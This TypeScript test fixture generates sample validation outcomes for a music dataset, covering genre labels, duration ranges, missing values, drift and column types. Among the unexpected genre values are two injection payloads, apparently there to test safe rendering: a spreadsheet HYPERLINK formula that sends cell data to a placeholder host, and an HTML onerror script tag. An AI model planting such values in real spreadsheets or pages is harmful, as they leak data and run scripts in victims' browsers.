import type { Outcome, Result } from '../../src/core/result.ts'
import { aCategoriesOutcome, aDriftOutcome, type DriftOptions } from './drift.ts'
import { anOutcome } from './outcome.ts'

const features: readonly DriftOptions[] = [
  { column: 'energy', centre: 0.8, spread: 0.11, shift: 0.055 },
  { column: 'duration_ms', centre: 225_103, spread: 62_000, shift: -0.03 },
  { column: 'acousticness', centre: 0.016, spread: 0.008, shift: 0.02 },
  { column: 'liveness', centre: 0.135, spread: 0.06, shift: 0.018 },
  { column: 'tempo', centre: 145, spread: 24, shift: 0.014 },
  { column: 'valence', centre: 0.322, spread: 0.19, shift: -0.012 },
  { column: 'danceability', centre: 0.646, spread: 0.13, shift: 0.01 },
]

export const musicColumns: Result['columns'] = [
  ...['loudness', 'speechiness', 'instrumentalness'].map(name => ({ name, type: 'number' })),
  ...features.map(({ column }) => ({ name: column, type: 'number' })),
  { name: 'key', type: 'integer' },
  { name: 'genre', type: 'string' },
  { name: 'text_feature', type: 'string' },
]

/** Findings of every kind and the passed checks around them. */
export function musicOutcomes(): Outcome[] {
  return [
    anOutcome({
      id: 'genre.in-set',
      expectation: 'toHaveValuesIn',
      category: 'values',
      columns: ['genre'],
      status: 'failed',
      expected: 'genre to be one of 15 known labels',
      found: '58 of 4,821 values outside the set',
      hint: '56 of the 58 look like other spellings of known labels.',
      note: 'The model has one output per label.',
      origin: { file: 'music.yaml', line: 12 },
      unexpected: {
        count: 58,
        of: 4821,
        distinct: 4,
        positionKind: 'line',
        positions: [22, 67, 301, 328, 418, 454, 574, 688],
        values: [
          { value: 'Hip-Hop', count: 37, positions: [22, 67, 301, 328, 454, 688, 760], closest: 'Hiphop' },
          { value: 'trap metal', count: 19, positions: [418, 574, 1133, 1237], closest: 'Trap Metal' },
          { value: '=HYPERLINK("http://x.example/?q="&A1)', count: 1, positions: [2218] },
          { value: '<img src=x onerror=alert(1)>', count: 1, positions: [3107] },
        ],
      },
    }),
    anOutcome({
      id: 'duration_ms.range',
      columns: ['duration_ms'],
      status: 'failed',
      expected: 'duration_ms between 20,000 and 1,000,000',
      found: '37 of 4,821 values outside, the smallest 97',
      hint: 'Multiplied by 1,000 all of them fall inside, so they are probably seconds.',
      origin: { file: 'music.yaml', line: 18 },
      unexpected: {
        count: 37,
        of: 4821,
        distinct: 36,
        positionKind: 'line',
        positions: [1180, 1181, 1182, 1183, 1184],
        values: [
          { value: '167', count: 2, positions: [1180, 1201] },
          { value: '212', count: 1, positions: [1181] },
        ],
      },
    }),
    anOutcome({
      id: 'loudness.missing',
      expectation: 'toHaveNullShare',
      category: 'missing',
      columns: ['loudness'],
      status: 'failed',
      expected: 'at most 22.6 % of loudness missing',
      found: '30.1 % missing, 1,451 of 4,821 rows',
      derivation: 'The reference has 21.3 %; up to 22.6 % is explained by the size of the sample.',
    }),
    anOutcome({
      id: 'text_feature.pattern',
      category: 'values',
      columns: ['text_feature'],
      status: 'errored',
      expected: 'text_feature to match ^[a-z ]+$',
      found: 'There is no column text_feature in new_2026-W47.csv. Did you mean text_features?',
      origin: { file: 'music.yaml', line: 31 },
    }),
    aDriftOutcome({ column: 'instrumentalness', shift: 0.35, zeros: [0.265, 0.411] }),
    aDriftOutcome({ column: 'loudness', centre: -6.2, spread: 2.9, shift: 0.28 }),
    aDriftOutcome({ column: 'speechiness', centre: 0.0758, spread: 0.04, shift: -0.12, severity: 'warning' }),
    aCategoriesOutcome('genre', [
      { label: 'psytrance', reference: 2061, sample: 401 },
      { label: 'Pop', reference: 320, sample: 20 },
      { label: 'Underground Rap', reference: 4010, sample: 694 },
      { label: 'Dark Trap', reference: 3133, sample: 515 },
      { label: 'Hiphop', reference: 2058, sample: 303 },
      { label: 'Hip-Hop', reference: 0, sample: 37 },
    ]),
    anOutcome({
      id: 'every track has an artist',
      suite: 'tracks.test.ts',
      expectation: 'test',
      category: 'test',
      columns: [],
      status: 'failed',
      expected: 'every track has an artist',
      found: 'expected 3 to be 0',
      origin: { file: 'tracks.test.ts', line: 7, column: 3 },
    }),
    ...features.map(aDriftOutcome),
    ...musicColumns.map(({ name, type }) =>
      anOutcome({
        id: `${name}.type`,
        suite: 'derived from the reference',
        expectation: 'toHaveType',
        category: 'schema',
        columns: [name],
        expected: `${name} to be ${type}`,
        found: type,
        derivation: 'The type of the column in the reference.',
      }),
    ),
    anOutcome({ origin: { file: 'music.yaml', line: 22 } }),
    anOutcome({
      id: 'key.range',
      columns: ['key'],
      status: 'skipped',
      found: 'skipped',
      expected: 'key in 0–11',
    }),
  ]
}
